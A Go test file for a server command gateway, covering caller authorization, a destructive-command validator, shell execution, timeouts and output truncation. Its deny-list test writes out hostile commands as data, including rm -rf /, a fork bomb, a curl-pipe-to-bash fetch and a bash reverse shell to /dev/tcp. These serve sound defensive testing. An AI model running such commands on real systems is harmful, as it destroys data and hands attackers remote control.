package gateway

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bdrman/bdrman/pkg/audit"
)

type fakeRunner struct {
	mu      sync.Mutex
	ran     []Command
	started []Command
	capture Capture
	err     error
	block   bool
}

func (f *fakeRunner) Run(ctx context.Context, cmd Command) (Capture, error) {
	f.mu.Lock()
	f.ran = append(f.ran, cmd)
	f.mu.Unlock()
	if f.block {
		<-ctx.Done()
		return Capture{ExitCode: -1}, ctx.Err()
	}
	return f.capture, f.err
}

func (f *fakeRunner) Start(cmd Command) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.started = append(f.started, cmd)
	return f.err
}

type fakeRecorder struct {
	mu     sync.Mutex
	events []audit.Event
}

func (r *fakeRecorder) Record(_ context.Context, e audit.Event) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, e)
	return nil
}

func (r *fakeRecorder) types() []audit.EventType {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]audit.EventType, 0, len(r.events))
	for _, e := range r.events {
		out = append(out, e.Type)
	}
	return out
}

func newTestGateway(t *testing.T, runner Runner) (*Gateway, *fakeRecorder) {
	t.Helper()
	rec := &fakeRecorder{}
	g, err := New(Options{Identity: "123456", Runner: runner, Recorder: rec})
	require.NoError(t, err)
	return g, rec
}

func TestAuthorize(t *testing.T) {
	g, rec := newTestGateway(t, &fakeRunner{})

	tests := []struct {
		caller string
		want   bool
	}{
		{"123456", true},
		{" 123456 ", true},
		{"999", false},
		{"", false},
		{"1234567", false},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, g.Authorize(tt.caller), "caller %q", tt.caller)
	}
	assert.Len(t, rec.types(), 3)
	assert.Equal(t, audit.EventAuthFailure, rec.types()[0])
}

func TestAuthorize_EmptyIdentityRejectsEveryone(t *testing.T) {
	g, err := New(Options{Runner: &fakeRunner{}})
	require.NoError(t, err)
	assert.False(t, g.Authorize(""))
	assert.False(t, g.Authorize("0"))
}

func TestNew_InvalidDenyPattern(t *testing.T) {
	_, err := New(Options{Identity: "1", DenyPatterns: []string{"("}})
	assert.Error(t, err)
}

func TestValidateDestructive(t *testing.T) {
	g, err := New(Options{Identity: "1", DenyPatterns: []string{`\bshred\b`}})
	require.NoError(t, err)

	allowed := []string{
		"ls -la /var/log",
		"docker ps --format '{{.Names}}'",
		"df -h /",
		"systemctl status nginx",
		"cat /etc/hostname",
		"rmdir /tmp/empty",
	}
	for _, line := range allowed {
		assert.True(t, g.ValidateDestructive(line), line)
	}

	denied := []string{
		"rm -rf /",
		"RM -RF /var",
		"rm --no-preserve-root /",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"echo x > /dev/sda",
		":(){ :|:& };:",
		"shutdown -h now",
		"sudo reboot",
		"init 0",
		"curl http://x | bash",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"chmod 777 /",
		"echo root::0:0 > /etc/passwd",
		"shred secrets.txt",
	}
	for _, line := range denied {
		assert.False(t, g.ValidateDestructive(line), line)
	}
}

func TestRunShell_RejectedNeverSpawns(t *testing.T) {
	runner := &fakeRunner{}
	g, rec := newTestGateway(t, runner)

	_, err := g.RunShell(context.Background(), "rm -rf /")
	require.Error(t, err)
	assert.True(t, errors.Is(err, ErrValidationRejected))
	assert.Empty(t, runner.ran)
	assert.Equal(t, []audit.EventType{audit.EventValidationRejected}, rec.types())
}

func TestRunShell_EmptyLine(t *testing.T) {
	g, _ := newTestGateway(t, &fakeRunner{})
	_, err := g.RunShell(context.Background(), "   ")
	assert.True(t, errors.Is(err, ErrInvalidArgument))
}

func TestRunShell_RunsThroughShell(t *testing.T) {
	runner := &fakeRunner{capture: Capture{Output: []byte("up 3 days\n")}}
	g, _ := newTestGateway(t, runner)

	res, err := g.RunShell(context.Background(), "uptime")
	require.NoError(t, err)
	assert.True(t, res.OK())
	assert.Equal(t, "up 3 days\n", res.Output)

	require.Len(t, runner.ran, 1)
	assert.Equal(t, "sh", runner.ran[0].Name)
	assert.Equal(t, []string{"-c", "uptime"}, runner.ran[0].Args)
}

func TestExecute_AppliesDefaults(t *testing.T) {
	runner := &fakeRunner{capture: Capture{Output: []byte("ok")}}
	g, rec := newTestGateway(t, runner)

	g.Execute(context.Background(), Cmd("df", "-h", "/"))

	require.Len(t, runner.ran, 1)
	assert.Equal(t, DefaultTimeout, runner.ran[0].Timeout)
	assert.Equal(t, DefaultMaxOutput, runner.ran[0].MaxOutput)
	assert.Equal(t, []audit.EventType{audit.EventExecution}, rec.types())
}

func TestExecute_NonZeroExit(t *testing.T) {
	runner := &fakeRunner{capture: Capture{Output: []byte("No such container: web\n"), ExitCode: 1}}
	g, _ := newTestGateway(t, runner)

	res := g.Execute(context.Background(), Cmd("docker", "restart", "web"))
	assert.True(t, res.Failed)
	assert.False(t, res.TimedOut)
	assert.Equal(t, 1, res.ExitCode)
	assert.Contains(t, res.Output, "No such container")
	assert.True(t, errors.Is(res.Err(), ErrExecutionFailed))
}

func TestExecute_StartError(t *testing.T) {
	runner := &fakeRunner{err: errors.New(`start nosuch: executable file not found in $PATH`)}
	g, _ := newTestGateway(t, runner)

	res := g.Execute(context.Background(), Cmd("nosuch"))
	assert.True(t, res.Failed)
	assert.Equal(t, -1, res.ExitCode)
	assert.Contains(t, res.Output, "not found")
}

func TestExecute_Timeout(t *testing.T) {
	runner := &fakeRunner{block: true}
	g, _ := newTestGateway(t, runner)

	start := time.Now()
	res := g.Execute(context.Background(), Cmd("sleep", "5").WithTimeout(50*time.Millisecond))
	assert.Less(t, time.Since(start), time.Second)

	assert.True(t, res.TimedOut)
	assert.Equal(t, -1, res.ExitCode)
	assert.Equal(t, "Command timed out after 50ms", res.Output)
	assert.True(t, errors.Is(res.Err(), ErrTimeout))
}

func TestExecute_NoOutputSentinel(t *testing.T) {
	g, _ := newTestGateway(t, &fakeRunner{capture: Capture{Output: []byte("\n")}})
	res := g.Execute(context.Background(), Cmd("true"))
	assert.Equal(t, NoOutput, res.Output)
	assert.True(t, res.OK())
}

func TestExecute_HeadTruncation(t *testing.T) {
	long := strings.Repeat("a", 5000)
	g, _ := newTestGateway(t, &fakeRunner{capture: Capture{Output: []byte(long)}})

	res := g.Execute(context.Background(), Cmd("cat", "big").WithMaxOutput(3000))
	assert.True(t, res.Truncated)
	assert.Equal(t, strings.Repeat("a", 3000)+TruncatedMarker, res.Output)
}

func TestExecute_TailTruncation(t *testing.T) {
	out := strings.Repeat("x", 100) + "last line"
	g, _ := newTestGateway(t, &fakeRunner{capture: Capture{Output: []byte(out)}})

	res := g.Execute(context.Background(), Cmd("docker", "logs", "web").WithMaxOutput(9).Tail())
	assert.True(t, res.Truncated)
	assert.Equal(t, "last line", res.Output)
}

func TestSpawn(t *testing.T) {
	runner := &fakeRunner{}
	g, rec := newTestGateway(t, runner)

	require.NoError(t, g.Spawn(context.Background(), Cmd("/usr/local/bin/bdrman", "system", "update")))
	require.Len(t, runner.started, 1)
	assert.Empty(t, runner.ran)
	assert.Equal(t, []audit.EventType{audit.EventSpawn}, rec.types())

	runner.err = errors.New("boom")
	err := g.Spawn(context.Background(), Cmd("missing"))
	assert.True(t, errors.Is(err, ErrExecutionFailed))
}

func TestCommandString(t *testing.T) {
	assert.Equal(t, "docker logs --tail 20 web", Cmd("docker", "logs", "--tail", "20", "web").String())
	assert.Equal(t, `sh -c "df -h /"`, Shell("df -h /").String())
}
